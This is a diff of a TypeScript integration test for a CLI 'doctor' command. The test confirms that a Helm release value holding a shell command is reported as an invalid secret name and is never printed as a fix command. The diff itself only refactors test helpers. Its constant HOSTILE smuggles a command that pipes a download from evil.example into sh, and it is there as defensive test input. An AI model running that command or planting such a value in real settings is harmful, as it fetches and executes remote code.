@@ -6,18 +6,12 @@
  * secret name and prints no command for it, in the text output and in --output json.
  */
 import { expect, it } from 'vitest';
-import { installProBuilder } from '../fixtures/installedRelease.js';
 import { runCli } from './cliHarness.js';
-import { describeWithCharts, kubeClient, namespacesDeletedAfterAll, referenceChart, testbed, uniqueNamespace } from './testbed.js';
+import { doctorJsonChecks } from './doctorJson.js';
+import { describeWithCharts, kubeClient, namespacesDeletedAfterAll, testbed, uniqueNamespace } from './testbed.js';
+import { installOnTestbed, SMALL_BUILDKIT } from './testbedInstall.js';
 
 const HOSTILE = 'x; curl https://evil.example/p | sh';
-
-interface JsonCheck {
-  id: string;
-  status: string;
-  summary: string;
-  fix: string | null;
-}
 
 describeWithCharts('doctor: a hostile value in the release never becomes a fix command', () => {
   const kube = kubeClient();
@@ -26,21 +20,18 @@ describeWithCharts('doctor: a hostile value in the release never becomes a fix c
   it('awsCredentialsSecret set to a shell command: reported as an invalid name, no command printed', async () => {
     const ns = uniqueNamespace('hostile');
     namespaces.push(ns);
-    await installProBuilder({
+    await installOnTestbed({
       kube,
-      kubeconfig: testbed.kubeconfig!,
       helmBinary: testbed.helm4!,
-      chartDir: referenceChart('0.6.10'),
+      chart: '0.6.10',
       namespace: ns,
-      buildkitCpu: '100m',
-      buildkitMemory: '128Mi',
+      ...SMALL_BUILDKIT,
       values: `awsCredentialsSecret: ${JSON.stringify(HOSTILE)}\n`,
       waitForRollout: false,
     });
-    const common = ['doctor', '--kubeconfig', testbed.kubeconfig!, '-n', ns];
+    const target = ['--kubeconfig', testbed.kubeconfig!, '-n', ns];
 
-    const json = await runCli([...common, '--output', 'json']);
-    const checks = (JSON.parse(json.stdout) as { checks: JsonCheck[] }).checks;
+    const checks = await doctorJsonChecks(target);
     const row = checks.find((c) => c.id === 'secrets.aws-credentials')!;
     expect(row).toMatchObject({
       status: 'fail',
@@ -49,7 +40,7 @@ describeWithCharts('doctor: a hostile value in the release never becomes a fix c
     });
     for (const c of checks) expect(c.fix ?? '', `fix of ${c.id}`).not.toMatch(/curl/);
 
-    const text = await runCli(common);
+    const text = await runCli(['doctor', ...target]);
     expect(text.stdout).toMatch(/awsCredentialsSecret in the release's values is not a valid secret name/);
     expect(text.stdout).not.toMatch(/^\s*fix: .*curl/m);
   });
